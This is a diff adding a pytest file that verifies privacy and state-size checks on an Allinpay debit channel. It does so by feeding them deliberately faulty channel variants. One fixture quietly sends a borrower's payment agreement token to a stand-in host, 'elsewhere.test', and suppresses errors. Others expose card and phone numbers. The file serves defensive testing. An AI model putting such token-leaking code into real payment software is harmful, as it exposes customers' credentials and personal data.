@@ -1,0 +1,55 @@
+"""What shows or keeps a person is found."""
+
+from collections.abc import Callable
+from contextlib import suppress
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from suidai_allinpay.channel import AllinpayChannel
+
+from plugins.testing import Subject, nothing_personal_shows, states_are_small
+from suidai.contract import Debit, PaymentResult, SmsSent
+from tests.plugins.testing.allinpay import Check, spoiled, then
+
+
+async def tells_of_the_token(self: Any, asked: Debit) -> PaymentResult:
+    with suppress(Exception):
+        await self._runtime.http.get("https://elsewhere.test/", params={"agreement": asked.token})
+    return await AllinpayChannel.debit(self, asked)
+
+
+def with_state(state: Callable[[Any], Any]) -> Callable[[Any, Any], Any]:
+    return lambda asked, result: replace(result, channel_state=state(asked))
+
+
+@pytest.mark.parametrize(
+    ("check", "subject", "says"),
+    [
+        (states_are_small, then("debit", with_state(lambda asked: {"x": "x" * 4096})), "larger than 4096 bytes"),
+        (states_are_small, then("debit", with_state(lambda asked: {"at": asked.submitted_at})), "is no JSON"),
+        (
+            states_are_small,
+            then("begin_mandate", with_state(lambda asked: {"card": asked.borrower.card_number.reveal()})),
+            "a person's data",
+        ),
+        (nothing_personal_shows, spoiled(debit=tells_of_the_token), "shows a secret, a person or a token"),
+        (
+            nothing_personal_shows,
+            then("begin_mandate", lambda asked, told: replace(told, bank=asked.borrower.phone.reveal())),
+            "shows a secret, a person or a token",
+        ),
+        (
+            nothing_personal_shows,
+            then(
+                "begin_mandate",
+                lambda asked, told: replace(told, action=SmsSent(asked.borrower.phone.reveal())),
+            ),
+            "shows a secret, a person or a token",
+        ),
+    ],
+    ids=range(6),
+)
+async def test_a_fault_of_a_debiting_channel_is_found(check: Check, subject: Subject, says: str) -> None:
+    with pytest.raises(AssertionError, match=says):
+        await check(subject)
